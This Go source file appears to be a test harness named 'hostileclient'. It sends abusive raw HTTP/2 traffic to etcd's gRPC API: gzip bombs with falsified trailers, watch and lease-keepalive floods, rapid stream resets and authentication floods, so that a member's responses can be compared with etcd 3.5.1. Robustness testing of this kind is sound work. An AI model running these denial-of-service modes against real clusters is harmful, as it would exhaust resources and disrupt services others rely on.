// hostileclient speaks raw HTTP/2 to a gRPC endpoint as an abusive client
// would, and prints what the server answered, so a test can compare a
// member with etcd 3.5.1 on the same abuse.
//
//	hostileclient -addr 127.0.0.1:2379 -mode gzipbomb -calls 5 -expand 1073741824 [-lie]
//	    Put calls whose gzip message inflates to -expand bytes (a gzip
//	    bomb); -lie makes its gzip trailer claim 100 bytes
//	hostileclient -mode churn -calls 100000 [-ack=false] [-key-bytes 1000]
//	    one Watch stream creating and cancelling watcher 1 -calls times;
//	    prints "pairs sent N" (how many the server let in)
//	hostileclient -mode progress -calls 100000 [-ack=false]
//	    one Watch stream sending 2 x -calls progress requests
//	hostileclient -mode progressnotify -calls 1000 [-ack=false]
//	    one Watch stream creating -calls watchers with progress_notify
//	hostileclient -mode keepalive -calls 1000000 -streams 10 [-ack=false] [-gzip]
//	    -streams LeaseKeepAlive streams sending -calls requests each (-gzip:
//	    compressed); with -ack it ends once every request is answered
//	hostileclient -mode reset -calls 10000
//	    -calls streams opened (a Range's HEADERS) and reset at once, then
//	    one Range, which must be answered ("last ended true")
//	hostileclient -mode auth -calls 2000 -conns 8 -user u -password p [-flood-password x] [-leave]
//	    one Authenticate for a token, then -calls Authenticate calls over
//	    -conns connections, then from a second connection a HashKV and a Range with
//	    the token, which print "probe hashkv|range CODE MESSAGE" (or "no
//	    answer"); -leave hangs up once they are answered, the flood queued
//
// It reads every answer until each call ended (or -hold passed) and prints
// "status CODE MESSAGE xCOUNT" lines, one per distinct outcome, and
// "messages N" (gRPC messages received). -ack=false reads frames but never
// gives the server flow control credit for them, so its answers back up.
package main

import (
	"bytes"
	"compress/gzip"
	"flag"
	"fmt"
	"net"
	"os"
	"sort"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func varint(b *bytes.Buffer, v uint64) {
	for v >= 0x80 {
		b.WriteByte(byte(v) | 0x80)
		v >>= 7
	}
	b.WriteByte(byte(v))
}

func field(b *bytes.Buffer, tag byte, body []byte) {
	b.WriteByte(tag)
	varint(b, uint64(len(body)))
	b.Write(body)
}

func grpcFrame(msg []byte, compressed bool) []byte {
	n := len(msg)
	flag := byte(0)
	if compressed {
		flag = 1
	}
	return append([]byte{flag, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}, msg...)
}

// bomb is a gzip'd PutRequest{key: "bomb", value: expand zero bytes},
// written as it streams so the expansion is never held here either.
func bomb(expand int64, lie bool) []byte {
	var out bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
	var head bytes.Buffer
	field(&head, 0x0A, []byte("bomb"))
	head.WriteByte(0x12)
	varint(&head, uint64(expand))
	zw.Write(head.Bytes())
	zeros := make([]byte, 1<<20)
	for left := expand; left > 0; {
		n := int64(len(zeros))
		if left < n {
			n = left
		}
		zw.Write(zeros[:n])
		left -= n
	}
	zw.Close()
	b := out.Bytes()
	if lie {
		// A trailer claiming 100 bytes (as a 4 GiB + 100 expansion would, mod 2^32).
		copy(b[len(b)-4:], []byte{100, 0, 0, 0})
	}
	return b
}

// client is one HTTP/2 connection: calls out, a reader recording how each ended.
type client struct {
	addr     string
	conn     net.Conn
	deadline time.Time

	writeMu     sync.Mutex // guards out, fw, enc, hb, next, writeFailed
	out         bytes.Buffer
	fw          *http2.Framer
	hb          bytes.Buffer
	enc         *hpack.Encoder
	next        uint32
	writeFailed bool

	mu         sync.Mutex // guards what the reader records
	byOutcome  map[string]int
	outcomes   map[uint32]string
	first      map[uint32][]byte
	messages   int
	goaway     string
	connWindow int64
	initWindow int64
	streamWin  map[uint32]int64
	done       chan struct{}
}

func dial(addr string, ack bool, deadline time.Time) *client {
	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		fmt.Fprintln(os.Stderr, "hostileclient: dial:", err)
		os.Exit(1)
	}
	c := &client{addr: addr, conn: conn, deadline: deadline, next: 1,
		byOutcome: map[string]int{}, outcomes: map[uint32]string{}, first: map[uint32][]byte{},
		connWindow: 65535, initWindow: 65535, streamWin: map[uint32]int64{}, done: make(chan struct{})}
	c.enc = hpack.NewEncoder(&c.hb)
	c.out.WriteString(http2.ClientPreface)
	c.fw = http2.NewFramer(&c.out, nil)
	if ack {
		c.fw.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
		c.fw.WriteWindowUpdate(0, 1<<30)
	} else {
		c.fw.WriteSettings()
	}
	c.flush()
	go func() { c.read(ack); close(c.done) }()
	return c
}

// flush writes what is buffered; caller holds writeMu.
func (c *client) flush() {
	if c.out.Len() == 0 || c.writeFailed {
		return
	}
	c.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
	if _, err := c.conn.Write(c.out.Bytes()); err != nil {
		c.writeFailed = true
	}
	c.out.Reset()
}

func (c *client) headers(path string, extra ...[2]string) []byte {
	c.hb.Reset()
	fields := [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path},
		{":authority", c.addr}, {"content-type", "application/grpc"}, {"te", "trailers"}}
	for _, f := range append(fields, extra...) {
		c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return append([]byte(nil), c.hb.Bytes()...)
}

// open sends a call's HEADERS; returns its stream.
func (c *client) open(path string, extra ...[2]string) uint32 {
	c.writeMu.Lock()
	defer c.writeMu.Unlock()
	id := c.next
	c.next += 2
	c.fw.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headers(path, extra...), EndHeaders: true})
	c.flush()
	return id
}

// send writes bytes on a stream as flow control allows (false: the
// server stopped granting window before the deadline, or the call ended).
func (c *client) send(stream uint32, data []byte, end bool) bool {
	for off := 0; off < len(data) || (off == 0 && len(data) == 0); {
		n := len(data) - off
		if n > 16384 {
			n = 16384
		}
		if !c.take(stream, int64(n)) {
			return false
		}
		last := off+n == len(data)
		c.writeMu.Lock()
		c.fw.WriteData(stream, end && last, data[off:off+n])
		c.flush()
		failed := c.writeFailed
		c.writeMu.Unlock()
		if failed {
			return false
		}
		off += n
		if len(data) == 0 {
			break
		}
	}
	return true
}

// call is a unary call: HEADERS, its message, END_STREAM.
func (c *client) call(path string, msg []byte, extra ...[2]string) uint32 {
	id := c.open(path, extra...)
	c.send(id, grpcFrame(msg, false), true)
	return id
}

// take waits until stream may send n bytes and charges them.
func (c *client) take(stream uint32, n int64) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	for {
		w, ok := c.streamWin[stream]
		if !ok {
			w = c.initWindow
			c.streamWin[stream] = w
		}
		if c.connWindow >= n && w >= n {
			c.connWindow -= n
			c.streamWin[stream] = w - n
			return true
		}
		if _, ended := c.outcomes[stream]; ended || time.Now().After(c.deadline) {
			return false
		}
		c.mu.Unlock()
		time.Sleep(2 * time.Millisecond)
		c.mu.Lock()
	}
}

func (c *client) end(stream uint32, code, message string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if _, ok := c.outcomes[stream]; ok {
		return
	}
	c.outcomes[stream] = code + " " + message
	c.byOutcome[code+" "+message]++
}

func (c *client) ended() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.outcomes)
}

// outcome is how the call on stream ended, or "no answer".
func (c *client) outcome(stream uint32) string {
	c.mu.Lock()
	defer c.mu.Unlock()
	if out, ok := c.outcomes[stream]; ok {
		return out
	}
	return "no answer"
}

// waitFor waits until every stream ended, the connection ended or the deadline passed.
func (c *client) waitFor(streams ...uint32) {
	for time.Now().Before(c.deadline) {
		all := true
		for _, s := range streams {
			all = all && c.outcome(s) != "no answer"
		}
		select {
		case <-c.done:
			return
		default:
		}
		if all {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// token is field 2 (AuthenticateResponse.token) of the first message on stream.
func (c *client) token(stream uint32) string {
	c.mu.Lock()
	msg := c.first[stream]
	c.mu.Unlock()
	for i := 0; i < len(msg); {
		tag := msg[i]
		i++
		n, shift := 0, 0
		for i < len(msg) {
			b := msg[i]
			i++
			n |= int(b&0x7f) << shift
			shift += 7
			if b < 0x80 {
				break
			}
		}
		if tag&7 != 2 || i+n > len(msg) {
			return ""
		}
		if tag>>3 == 2 {
			return string(msg[i : i+n])
		}
		i += n
	}
	return ""
}

// read reads frames until the connection ends, recording each stream's
// trailers (or its reset) and the server's flow control windows; with ack
// it credits the server for what it sent.
func (c *client) read(ack bool) {
	fr := http2.NewFramer(nil, c.conn)
	fr.ReadMetaHeaders = hpack.NewDecoder(65536, nil)
	fr.MaxHeaderListSize = 1 << 24
	partial := map[uint32][]byte{}
	reply := func(write func()) {
		c.writeMu.Lock()
		write()
		c.flush()
		c.writeMu.Unlock()
	}
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			status, message := "", ""
			for _, h := range f.Fields {
				switch h.Name {
				case "grpc-status":
					status = h.Value
				case "grpc-message":
					message = h.Value
				}
			}
			if status != "" {
				c.end(f.StreamID, status, message)
			}
		case *http2.DataFrame:
			data := append(partial[f.StreamID], f.Data()...)
			for len(data) >= 5 {
				n := int(data[1])<<24 | int(data[2])<<16 | int(data[3])<<8 | int(data[4])
				if len(data) < 5+n {
					break
				}
				c.mu.Lock()
				if _, ok := c.first[f.StreamID]; !ok {
					c.first[f.StreamID] = append([]byte(nil), data[5:5+n]...)
				}
				c.messages++
				c.mu.Unlock()
				data = data[5+n:]
			}
			partial[f.StreamID] = data
			if n := uint32(len(f.Data())); n > 0 && ack {
				reply(func() {
					c.fw.WriteWindowUpdate(0, n)
					c.fw.WriteWindowUpdate(f.StreamID, n)
				})
			}
		case *http2.WindowUpdateFrame:
			c.mu.Lock()
			if f.StreamID == 0 {
				c.connWindow += int64(f.Increment)
			} else {
				if _, ok := c.streamWin[f.StreamID]; !ok {
					c.streamWin[f.StreamID] = c.initWindow
				}
				c.streamWin[f.StreamID] += int64(f.Increment)
			}
			c.mu.Unlock()
		case *http2.RSTStreamFrame:
			c.end(f.StreamID, "RST", f.ErrCode.String())
		case *http2.GoAwayFrame:
			c.mu.Lock()
			c.goaway = f.ErrCode.String() + " " + string(f.DebugData())
			c.mu.Unlock()
		case *http2.PingFrame:
			if !f.IsAck() {
				reply(func() { c.fw.WritePing(true, f.Data) })
			}
		case *http2.SettingsFrame:
			if !f.IsAck() {
				if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
					c.mu.Lock()
					for id := range c.streamWin {
						c.streamWin[id] += int64(v) - c.initWindow
					}
					c.initWindow = int64(v)
					c.mu.Unlock()
				}
				reply(func() { c.fw.WriteSettingsAck() })
			}
		}
	}
}

// report prints the outcomes, messages and GOAWAY.
func (c *client) report() {
	c.mu.Lock()
	defer c.mu.Unlock()
	keys := make([]string, 0, len(c.byOutcome))
	for k := range c.byOutcome {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Printf("status %s x%d\n", k, c.byOutcome[k])
	}
	fmt.Printf("messages %d\n", c.messages)
	if c.goaway != "" {
		fmt.Printf("goaway %s\n", c.goaway)
	}
}

func main() {
	addr := flag.String("addr", "127.0.0.1:2379", "host:port")
	mode := flag.String("mode", "gzipbomb", "gzipbomb | churn | progress | reset | auth")
	calls := flag.Int("calls", 10, "calls, or create/cancel pairs (churn)")
	expand := flag.Int64("expand", 1<<30, "bytes a bomb inflates to")
	lie := flag.Bool("lie", false, "the bomb's gzip trailer understates its size")
	ack := flag.Bool("ack", true, "credit the server's answers (HTTP/2 flow control)")
	user := flag.String("user", "root", "user (auth)")
	password := flag.String("password", "", "password (auth)")
	floodPassword := flag.String("flood-password", "wrong", "password of the flood's calls (auth)")
	conns := flag.Int("conns", 1, "auth: connections the flood is spread over")
	leave := flag.Bool("leave", false, "auth: hang up once the probes are answered, the flood still queued")
	streams := flag.Int("streams", 1, "keepalive: streams on the connection")
	gzipped := flag.Bool("gzip", false, "keepalive: requests sent gzip-compressed (grpc-encoding gzip)")
	keyBytes := flag.Int("key-bytes", 0, "churn: bytes added to the watched key (larger requests)")
	hold := flag.Duration("hold", 60*time.Second, "how long the whole run may take")
	flag.Parse()

	deadline := time.Now().Add(*hold)
	c := dial(*addr, *ack, deadline)
	var waitFor []uint32
	switch *mode {
	case "gzipbomb":
		msg := grpcFrame(bomb(*expand, *lie), true)
		for i := 0; i < *calls; i++ {
			id := c.open("/etcdserverpb.KV/Put", [2]string{"grpc-encoding", "gzip"})
			c.send(id, msg, true)
			waitFor = append(waitFor, id)
		}
	case "churn", "progress":
		var create, cancel, cr, cc bytes.Buffer
		key := append([]byte("churn"), bytes.Repeat([]byte{'k'}, *keyBytes)...)
		field(&cr, 0x0A, key)
		cr.WriteByte(0x38) // watch_id = 1 (field 7)
		varint(&cr, 1)
		field(&create, 0x0A, cr.Bytes())
		cc.WriteByte(0x08)
		varint(&cc, 1)
		field(&cancel, 0x12, cc.Bytes())
		pair := append(grpcFrame(create.Bytes(), false), grpcFrame(cancel.Bytes(), false)...)
		if *mode == "progress" {
			var pr bytes.Buffer
			field(&pr, 0x22, nil) // progress_request (field 4), empty
			pair = append(grpcFrame(pr.Bytes(), false), grpcFrame(pr.Bytes(), false)...)
		}
		id := c.open("/etcdserverpb.Watch/Watch")
		sent := 0
		for sent < *calls {
			var batch []byte
			for j := 0; j < 256 && sent+j < *calls; j++ {
				batch = append(batch, pair...)
			}
			if !c.send(id, batch, false) {
				break
			}
			sent += len(batch) / len(pair)
		}
		fmt.Printf("pairs sent %d\n", sent)
		// Answers keep coming until the deadline (the stream stays open).
		for time.Now().Before(deadline) {
			time.Sleep(20 * time.Millisecond)
		}
	case "progressnotify":
		// One Watch stream creating -calls watchers with progress_notify, then holding it.
		id := c.open("/etcdserverpb.Watch/Watch")
		var batch []byte
		for i := 0; i < *calls; i++ {
			var create, cr bytes.Buffer
			field(&cr, 0x0A, []byte(fmt.Sprintf("pn%d", i)))
			cr.WriteByte(0x20) // progress_notify (field 4)
			cr.WriteByte(1)
			field(&create, 0x0A, cr.Bytes())
			batch = append(batch, grpcFrame(create.Bytes(), false)...)
		}
		ok := c.send(id, batch, false)
		fmt.Printf("watchers created %v\n", ok)
		for time.Now().Before(deadline) {
			time.Sleep(20 * time.Millisecond)
		}
	case "keepalive":
		// -streams LeaseKeepAlive streams, each sending -calls requests for lease 7.
		var ka bytes.Buffer
		ka.WriteByte(0x08)
		varint(&ka, 7)
		msg := grpcFrame(ka.Bytes(), false)
		var extra [][2]string
		if *gzipped {
			var z bytes.Buffer
			zw := gzip.NewWriter(&z)
			zw.Write(ka.Bytes())
			zw.Close()
			msg = grpcFrame(z.Bytes(), true)
			extra = append(extra, [2]string{"grpc-encoding", "gzip"})
		}
		var batch []byte
		for j := 0; j < 1024; j++ {
			batch = append(batch, msg...)
		}
		var wg sync.WaitGroup
		var total sync.Map
		for s := 0; s < *streams; s++ {
			id := c.open("/etcdserverpb.Lease/LeaseKeepAlive", extra...)
			wg.Add(1)
			go func() {
				defer wg.Done()
				sent := 0
				for sent < *calls && c.send(id, batch, false) {
					sent += 1024
				}
				total.Store(id, sent)
			}()
		}
		wg.Wait()
		sum := 0
		total.Range(func(_, v interface{}) bool { sum += v.(int); return true })
		fmt.Printf("requests sent %d\n", sum)
		// With -ack, until every request is answered; else until the deadline.
		for time.Now().Before(deadline) {
			c.mu.Lock()
			all := *ack && c.messages >= sum
			c.mu.Unlock()
			if all {
				break
			}
			time.Sleep(20 * time.Millisecond)
		}
	case "reset":
		c.writeMu.Lock()
		for i := 0; i < *calls && !c.writeFailed; i++ {
			c.fw.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: c.headers("/etcdserverpb.KV/Range"), EndHeaders: true})
			c.fw.WriteRSTStream(c.next, http2.ErrCodeCancel)
			c.next += 2
			if c.out.Len() > 16*1024 {
				c.flush()
			}
		}
		c.flush()
		c.writeMu.Unlock()
		var rr bytes.Buffer
		field(&rr, 0x0A, []byte("k"))
		last := c.call("/etcdserverpb.KV/Range", rr.Bytes())
		c.waitFor(last)
		fmt.Printf("last ended %v\n", c.outcome(last) != "no answer")
	case "auth":
		authenticate := func(password string) []byte {
			var ar bytes.Buffer
			field(&ar, 0x0A, []byte(*user))
			field(&ar, 0x12, []byte(password))
			return ar.Bytes()
		}
		first := c.call("/etcdserverpb.Auth/Authenticate", authenticate(*password))
		c.waitFor(first)
		token := c.token(first)
		fmt.Printf("token %v\n", token != "")
		// The flood, spread over -conns connections (a member may cap the
		// calls one connection runs at once).
		flood := authenticate(*floodPassword)
		flooders := []*client{c}
		for i := 1; i < *conns; i++ {
			flooders = append(flooders, dial(*addr, true, deadline))
		}
		for i := 0; i < *calls; i++ {
			f := flooders[i%len(flooders)]
			id := f.call("/etcdserverpb.Auth/Authenticate", flood)
			if f == c {
				waitFor = append(waitFor, id)
			}
		}
		other := dial(*addr, true, deadline)
		hashkv := other.call("/etcdserverpb.Maintenance/HashKV", nil, [2]string{"token", token})
		var rr bytes.Buffer
		field(&rr, 0x0A, []byte("k"))
		rng := other.call("/etcdserverpb.KV/Range", rr.Bytes(), [2]string{"token", token})
		other.waitFor(hashkv, rng)
		fmt.Printf("probe hashkv %s\n", other.outcome(hashkv))
		fmt.Printf("probe range %s\n", other.outcome(rng))
		answered := c.ended() - 1
		for _, f := range flooders[1:] {
			answered += f.ended()
			if *leave {
				f.conn.Close()
			} else {
				f.waitFor()
			}
		}
		if *leave {
			fmt.Printf("left with %d of %d answered\n", answered, *calls)
			c.conn.Close()
			return
		}
	default:
		fmt.Fprintln(os.Stderr, "hostileclient: unknown mode", *mode)
		os.Exit(2)
	}
	c.waitFor(waitFor...)
	c.conn.Close()
	c.report()
}
